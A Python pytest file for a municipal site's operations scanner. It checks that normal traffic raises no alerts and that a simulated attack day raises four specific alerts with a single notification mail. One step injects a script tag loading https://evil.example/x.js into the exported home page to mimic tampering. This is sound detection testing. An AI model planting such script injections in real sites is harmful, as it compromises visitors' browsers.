"""ops_scan on whole logs (issue 13's acceptance): an attack replayed on a working day raises
exactly the expected alerts in one run, one per incident, with the mail queued; a month of
municipal traffic (kokasen/testing/traffic.py, more than 100,000 lines) raises none."""

from __future__ import annotations

from datetime import datetime, timedelta

import pytest

from kokasen.notifications.models import OutboxMessage
from kokasen.ops import scan
from kokasen.ops.models import Alert, ScanRun
from kokasen.static_export import builder
from kokasen.testing import make_staff, traffic
from kokasen.testing.traffic import JST

pytestmark = pytest.mark.django_db

START = datetime(2026, 11, 2, tzinfo=JST)


@pytest.fixture
def logs(tmp_path, settings):
    folder = tmp_path / "logs"
    settings.OPS_ACCESS_LOGS = [str(folder / "access.json"), str(folder / "refused.log")]
    settings.OPS_ALERT_EMAILS = ["ops@contractor.example.jp", "oncall@contractor.example.jp"]
    return folder


def staff_users():
    from kokasen.accounts import roles

    users = {}
    for username in traffic.STAFF:
        role = roles.AGENCY_ADMIN if username.startswith("agency") else roles.OPERATOR
        users[username] = make_staff(role, username=username)
    return users


def first_run(now, logs):
    """The very first run: empty logs, and the staff's earlier logins already in the audit trail."""
    traffic.write_logs(traffic.Traffic(), logs)
    scan.ops_scan(now=now)
    assert not Alert.objects.exists()


def test_a_month_of_municipal_traffic_raises_nothing(logs):
    users = staff_users()
    month = traffic.municipal_month(start=START.date())
    assert len(month.lines) >= 100_000
    traffic.insert_audit(traffic.staff_history(before=START.date()).audit, users=users)
    first_run(START, logs)
    traffic.write_logs(month, logs)
    traffic.insert_audit(month.audit, users=users)
    report = scan.ops_scan(now=START + timedelta(days=31))
    assert report.lines == len(month.lines) and report.bad_lines == 0
    assert report.audit_events == sum(1 for row in month.audit if row["action"] in scan.AUDIT_ACTIONS) > 5000
    assert [f.summary for f in report.findings] == []
    assert not Alert.objects.exists() and not OutboxMessage.objects.exists()


def test_an_attack_on_a_working_day_raises_one_alert_per_incident_with_mail(logs, demo_site, tmp_path, settings):
    users = staff_users()
    day = traffic.municipal_month(start=START.date(), days=1, seed=5)
    attack = traffic.attack(START + timedelta(hours=17, minutes=30))  # ends 18:13
    export = tmp_path / "static"
    builder.export_site(out_dir=export)
    settings.OPS_STATIC_EXPORT_DIR = str(export)
    traffic.insert_audit(traffic.staff_history(before=START.date()).audit, users=users)
    first_run(START, logs)
    # 改ざん: a script added to the exported home page.
    home = export / "index.html"
    home.write_text(
        home.read_text(encoding="utf-8").replace("</body>", '<script src="https://evil.example/x.js"></script></body>'),
        encoding="utf-8",
    )
    traffic.write_logs(day.extend(attack), logs)
    traffic.insert_audit(day.audit, users=users)

    report = scan.ops_scan(now=START + timedelta(hours=18, minutes=20))

    alerts = {(a.rule, a.key): a for a in Alert.objects.all()}
    assert set(alerts) == {
        ("scanner", traffic.SCANNER),
        ("flood", traffic.FLOODER),
        ("account_spray", traffic.STUFFER),
        ("export_tampered", str(export)),
    }, [a.summary for a in alerts.values()]
    scanner = alerts[("scanner", traffic.SCANNER)]
    assert scanner.severity == "warning" and scanner.count == 46 and scanner.evidence["tools"] == ["zgrab"]
    flood = alerts[("flood", traffic.FLOODER)]
    assert flood.evidence["peak_per_minute"] >= 1020 and set(flood.evidence["groups"]) == {"pages", "refused"}
    spray = alerts[("account_spray", traffic.STUFFER)]
    assert spray.severity == "critical" and spray.evidence["accounts_tried"] == 150
    assert spray.evidence["refused_attempts"] == 120 and spray.evidence["failures"] == 30
    tampered = alerts[("export_tampered", str(export))]
    assert tampered.severity == "critical" and tampered.evidence["changed"] == ["index.html"]
    # One mail for the run, to the operator's contacts, listing the four.
    [mail] = OutboxMessage.objects.all()
    assert mail.kind == "ops_alert" and sorted(mail.bcc) == sorted(settings.OPS_ALERT_EMAILS)
    assert "重大なアラート2件・ほか2件" in mail.subject
    for alert in alerts.values():
        assert alert.summary in mail.body and f"/admin/ops/alerts/{alert.pk}/" in mail.body
        assert alert.notified_at is not None
    assert report.run.opened == 4 and report.run.mails == 1

    # The next run finds nothing new: the same alerts, no second mail.
    scan.ops_scan(now=START + timedelta(hours=18, minutes=25))
    assert Alert.objects.filter(resolved_at=None).count() == 4 and OutboxMessage.objects.count() == 1
    # An hour after the last request of each attack they end, with one recovery notice; the
    # altered file is still altered.
    scan.ops_scan(now=START + timedelta(hours=19, minutes=15))
    assert list(Alert.objects.filter(resolved_at=None).values_list("rule", flat=True)) == ["export_tampered"]
    recovery = OutboxMessage.objects.get(kind="ops_recovery")
    assert "アラート3件が解消しました" in recovery.subject and traffic.STUFFER in recovery.body
    assert ScanRun.objects.count() == 4
